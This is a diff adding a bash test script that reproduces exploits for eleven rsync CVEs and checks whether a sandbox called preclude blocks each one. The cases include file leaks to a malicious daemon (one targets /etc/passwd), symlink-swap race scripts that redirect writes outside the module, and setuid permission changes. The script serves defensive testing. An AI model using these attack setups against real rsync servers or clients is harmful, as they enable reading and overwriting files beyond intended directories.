@@ -1,0 +1,352 @@
+#!/bin/bash
+# SPDX-License-Identifier: ISC
+# Eleven CVEs of rsync, each exploited: what becomes of it with the bare binary, and under preclude. docs/CVES.md holds the
+# table of this file, word for word: `tests/rsync/test_cve.sh --table` prints it.
+#
+# The attacker is an ordinary rsync where that suffices, else tests/rsync/attacker. Races are won every time: the attacker
+# is one side of the protocol, and waits for the right moment.
+
+# One row a case: CVE, its function below, what stops it under preclude (passed: nothing, but it is logged as an escape
+# that passed; unseen: nothing, and not that either), what the attacker does, and what the bare binary does then. Daemons run under the policy of `preclude rsyncd`, the rest under `preclude run --root DIR`.
+cases()
+{
+	cat <<-'EOF'
+		2024-12086|leak_home|landlock|A server answers a client's request with the name of a file on the client's side, and learns from what is asked again which bytes are in it|tells the server a file outside its destination, byte by byte
+		2024-12086|leak_etc|passed|The same, with a file that the system base lets the client read|the same
+		2024-12087|twice|landlock|A server sends the list of a directory twice, the second time with a link where the first had a directory|writes what comes next through the link, anywhere
+		2024-12088|link_made|unseen|A server sends links that are safe each by itself under `--safe-links`, but not together|makes a link that leads out of the destination
+		2024-12088|link_used|landlock|And then a directory in the link's place, to a client with `-K`|writes through it
+		2024-12747|sender|landlock|A file is swapped for a link after the daemon listed it, before the client asks for it|sends what the link leads to
+		2026-29518|receiver|landlock|A directory is swapped for a link after the daemon looked at it, before it writes into it|writes outside the module
+		2026-43619|attributes|passed|The same, before the daemon sets mode, owner and time of what it wrote|sets those of a file outside
+		2026-43619|entries|landlock|The same, before the daemon makes directories and links in it|makes them outside
+		2026-53784|module|narrow|A directory above the module is swapped for a link while the daemon runs, without chroot|serves what the link leads to
+		2026-53785|relative|landlock|A client with `-R --no-implied-dirs` names a path through a link in the module|makes the directories and the file outside
+		2026-53793|inner|landlock|A client writes through a link in a module with `path = outer/./inner`|writes beside the inner directory
+		2026-53795|temp_inside|landlock|With an absolute `--temp-dir` in the destination, a directory is swapped for a link before the file is moved there|moves it outside
+		2026-53795|temp_outside|guard|With one elsewhere|the same
+		2026-70460|backup|guard|A client's `--backup-dir` names a link in the module|moves what it replaces outside
+		2026-70460|backup_domain|landlock|The same, where the guard is off|the same
+	EOF
+}
+
+table()
+{
+	echo '| CVE | attack | the bare binary | stopped by |'
+	echo '| --- | --- | --- | --- |'
+	cases | while IFS='|' read -r cve _ by attack harm; do
+		case $by in
+		passed) by='**nothing**; it is logged' ;;
+		unseen) by='**nothing**' ;;
+		esac
+		echo "| CVE-$cve | $attack | $harm | $by |"
+	done
+}
+
+if [ "${1:-}" = --table ]; then
+	table
+	exit
+fi
+
+. "$(dirname "$0")/../tap.sh"
+. "$(dirname "$0")/lib.sh"
+at_exit+=(daemon_stop)
+daemon=
+
+pristine=$("$top/tests/rsync/pristine") || exit 1
+attacker=$("$top/tests/rsync/attacker") || exit 1
+
+# Each case has a directory of its own, $dir; the victim is $binary. $sealed says whether it runs under preclude.
+# case_NAME sets up, attacks, and succeeds when there was harm.
+
+# The daemon at $url is the victim; more of its configuration comes from standard input: victim_daemon CHROOT
+victim_daemon()
+{
+	local policy=()
+	rsyncd_setup "$dir" "$1"
+	cat >>"$dir/rsyncd.conf"
+	mkdir -p "$dir/outside"
+	if $sealed; then rsyncd_sealed "$dir"; fi
+	daemon_start "$dir" "$binary" "${policy[@]}" "${@:2}" >&2
+}
+
+# The daemon at $url is the attacker, its module is `two`: evil_daemon BINARY [VARIABLE=VALUE...]
+evil_daemon()
+{
+	rsyncd_setup "$dir" no
+	mkdir -p "$dir/outside"
+	daemon_start "$dir" "$@" >&2
+}
+
+# The victim is a client, or a server without a daemon, at work in one directory: victim ROOT ARGUMENT...
+victim()
+{
+	local root=$1 seal=()
+	shift
+	if $sealed; then seal=("$B/preclude" run --root "$root" --guard rsync --log "$dir/preclude.log" --); fi
+	"${seal[@]}" "$binary" "$@"
+}
+
+# What the attacker's second foot runs: when WAIT is there, or at once, PLACE is swapped for a link to $dir/outside.
+swap()
+{
+	cat >"$dir/swap" <<-EOF
+		#!/bin/bash
+		for ((i = 0; i < 500; i++)); do
+			compgen -G '${2:-$1}' >/dev/null && break
+			sleep 0.01
+		done
+		mv '$1' '$dir/away' && ln -s '$dir/outside' '$1'
+	EOF
+	chmod 755 "$dir/swap"
+}
+
+# Three characters of a file on the client's side, told by what it does not ask for again.
+leak()
+{
+	local file=$1 i char
+	evil_daemon "$attacker" ATTACK=leak "ATTACK_TO=$file" "ATTACK_RUN=$dir/learnt"
+	mkdir -p "$dir/home/dest"
+	for i in 0 1 2; do for char in {a..z}; do echo "$i" >"$dir/two/$i-$char"; done; done
+	victim "$dir/home/dest" -r "$url/two/" "$dir/home/dest/"
+	daemon_idle
+	# What it took to be false is asked for again; only a right guess is asked for once.
+	[ "$(sed 's/.*-//' "$dir/learnt" | tr -d '\n')" = "$(head -c 3 "$dir/home/dest/$file")" ]
+}
+
+case_leak_home()
+{
+	mkdir -p "$dir/home/dest"
+	echo key >"$dir/home/secret"
+	leak ../secret
+}
+
+case_leak_etc()
+{
+	leak ../../../../../../../../../../../../../../etc/passwd
+}
+
+case_twice()
+{
+	evil_daemon "$attacker" ATTACK=twice "ATTACK_TO=$dir/outside"
+	mkdir -p "$dir/two/d/sub" "$dir/two/d/then" "$dir/dest"
+	echo evil >"$dir/two/d/sub/file"
+	victim "$dir/dest" -a "$url/two/d" "$dir/dest/"
+	test -e "$dir/outside/file"
+}
+
+# l leads nowhere but here; textually, each l makes up for one way up.
+safe_links()
+{
+	evil_daemon "$binary"
+	mkdir -p "$dir/a/b/dest"
+	ln -s . "$dir/two/l"
+	ln -s l/l/l/../../../outside "$dir/two/out"
+	victim "$dir/a/b/dest" -a --safe-links "$url/two/" "$dir/a/b/dest/"
+}
+
+case_link_made()
+{
+	safe_links
+	[ "$(realpath "$dir/a/b/dest/out")" = "$dir/outside" ]
+}
+
+case_link_used()
+{
+	safe_links
+	rm "$dir/two/out"
+	mkdir "$dir/two/out"
+	echo evil >"$dir/two/out/file"
+	victim "$dir/a/b/dest" -aK --safe-links "$url/two/" "$dir/a/b/dest/"
+	test -e "$dir/outside/file"
+}
+
+case_sender()
+{
+	victim_daemon no </dev/null
+	echo plain >"$dir/two/file"
+	echo secret >"$dir/outside/secret"
+	ATTACK=ask ATTACK_RUN="ln -sf $dir/outside/secret $dir/two/file" "$attacker" -r "$url/two/" "$dir/loot/"
+	grep -qs secret "$dir/loot/file"
+}
+
+# push ATTACK FILE OPTION...: the tree $dir/evil, by an attacker who swaps a directory when it is time
+push()
+{
+	local attack=$1 file=$2
+	shift 2
+	ATTACK=$attack ATTACK_FILE=$file ATTACK_RUN="$dir/swap" "$attacker" "$@" "$dir/evil/" "$url/two/"
+	daemon_idle
+}
+
+case_receiver()
+{
+	victim_daemon no </dev/null
+	mkdir -p "$dir/evil/sub"
+	echo evil >"$dir/evil/sub/file"
+	swap "$dir/two/sub"
+	push open file -r
+	test -e "$dir/outside/file"
+}
+
+case_attributes()
+{
+	victim_daemon no </dev/null
+	echo precious >"$dir/outside/file"
+	chmod 600 "$dir/outside/file"
+	mkdir -p "$dir/evil/sub"
+	echo evil >"$dir/evil/sub/file"
+	chmod 4777 "$dir/evil/sub/file"
+	swap "$dir/two/sub" "$dir/two/sub/file"
+	push data file -rpt --inplace
+	[ "$(stat -c %a "$dir/outside/file")" = 4777 ]
+}
+
+case_entries()
+{
+	victim_daemon no </dev/null
+	mkdir -p "$dir/evil/d/sub/made"
+	ln -s /nowhere "$dir/evil/d/sub/link"
+	swap "$dir/two/d" "$dir/two/d/sub"
+	push list - -a
+	test -d "$dir/outside/sub/made" -a -L "$dir/outside/sub/link"
+}
+
+case_module()
+{
+	mkdir -p "$dir/area/mod" "$dir/outside/mod"
+	echo secret >"$dir/outside/mod/secret"
+	victim_daemon no <<-EOF
+		[area]
+		path = $dir/area/mod
+	EOF
+	mv "$dir/area" "$dir/area.away"
+	ln -s "$dir/outside" "$dir/area"
+	# A local user's link: rsync 3.5 still follows root's.
+	chown -h 1234 "$dir/area"
+	"$pristine" -r "$url/area/" "$dir/loot/"
+	grep -qs secret "$dir/loot/secret"
+}
+
+case_relative()
+{
+	victim_daemon no </dev/null
+	ln -s "$dir/outside" "$dir/two/link"
+	mkdir -p "$dir/evil/link/made"
+	echo evil >"$dir/evil/link/made/file"
+	(cd "$dir/evil" && "$pristine" -R --no-implied-dirs link/made/file "$url/two/")
+	test -e "$dir/outside/made/file"
+}
+
+case_inner()
+{
+	mkdir -p "$dir/one/inner"
+	ln -s "$(realpath --relative-to=/ "$dir/outside" | sed 's/.*/..\/outside/')" "$dir/one/inner/link"
+	mkdir -p "$dir/one/outside"
+	victim_daemon yes <<-EOF
+		[inner]
+		path = $dir/one/./inner
+	EOF
+	echo evil >"$dir/file"
+	"$pristine" "$dir/file" "$url/inner/link/file"
+	test -e "$dir/one/outside/file"
+}
+
+# temp DIRECTORY: over a remote shell, whose account may do nothing but serve this destination
+temp()
+{
+	mkdir -p "$dir/evil/sub" "$dir/dest" "$dir/outside" "$1"
+	echo evil >"$dir/evil/sub/file"
+	swap "$dir/dest/sub" "$1/file.*"
+	cat >"$dir/rsh" <<-EOF
+		#!/bin/bash
+		$(declare -p dir binary sealed B)
+		$(declare -f victim)
+		shift 2
+		victim $dir/dest "\$@"
+	EOF
+	chmod 755 "$dir/rsh"
+	ATTACK=data ATTACK_FILE=file ATTACK_RUN="$dir/swap" "$attacker" -r --temp-dir="$1" -e "$dir/rsh" \
+		"$dir/evil/" host:"$dir/dest/"
+	test -e "$dir/outside/file"
+}
+
+case_temp_inside()
+{
+	temp "$dir/dest/.tmp"
+}
+
+case_temp_outside()
+{
+	temp "$dir/tmp"
+}
+
+backup()
+{
+	victim_daemon no "$@" </dev/null
+	ln -s "$dir/outside" "$dir/two/link"
+	mkdir -p "$dir/evil"
+	echo old >"$dir/two/file"
+	echo newer >"$dir/evil/file"
+	"$pristine" -r --backup --backup-dir=link "$dir/evil/" "$url/two/"
+	daemon_idle
+	test -e "$dir/outside/file"
+}
+
+case_backup()
+{
+	backup
+}
+
+case_backup_domain()
+{
+	backup PRECLUDE_GUARD=
+}
+
+# stopped BY: what the log of this case says.
+stopped()
+{
+	local select
+	case $1 in
+	guard) select='.event == "guard" and .action == "rejected"' ;;
+	narrow) select='.event == "warning" and (.reason | test("is refused"))' ;;
+	passed) select='.event == "call" and .escape and .effect == "passed" and .does != "look" and .does != "enter"' ;;
+	unseen) select='.event == "sandbox" and (.outcome == "enforced")' ;;
+	*) select='.event == "call" and .effect == "denied" and .by == "'"$1"'" and
+		any(.resolved, .resolved2 | strings; test("/outside|/secret"))' ;;
+	esac
+	jq -se "any(.[]; $select)" "$dir/preclude.log" >/dev/null || { jq -c . "$dir/preclude.log"; false; }
+}
+
+# harm NAME: whether there is harm; what everybody said is in $dir/said
+harm()
+{
+	local done=0
+	mkdir -p "$dir"
+	"case_$1" >"$dir/said" 2>&1 </dev/null || done=1
+	[ -z "$daemon" ] || daemon_idle
+	daemon_stop KILL
+	return $done
+}
+
+# That these are the attacks they are said to be shows where they are fixed: Debian's rsync, when it is up to date.
+debian=/usr/bin/rsync fixed=false
+[[ $("$debian" --version) =~ version\ ([4-9]|3\.([5-9]|[1-9][0-9]))\. ]] && fixed=true
+
+while IFS='|' read -r cve name by attack result; do
+	dir=$scratch/bare-$name sealed=false binary=$pristine
+	ok "CVE-$cve, $name: bare 3.2.7 $result" harm "$name"
+	dir=$scratch/sealed-$name sealed=true
+	if [ "$by" = passed ] || [ "$by" = unseen ]; then
+		ok "CVE-$cve, $name: so does it under preclude" harm "$name"
+	else
+		ok "CVE-$cve, $name: not under preclude" not harm "$name"
+	fi
+	ok "CVE-$cve, $name: $by" stopped "$by"
+	if $fixed; then
+		dir=$scratch/fixed-$name sealed=false binary=$debian
+		ok "CVE-$cve, $name: not with 3.5 or later, where it is fixed" not harm "$name"
+	fi
+done < <(cases)
+ok "docs/CVES.md has the table of this file" diff <(table) <(grep '^|' "$top/docs/CVES.md")
+finish
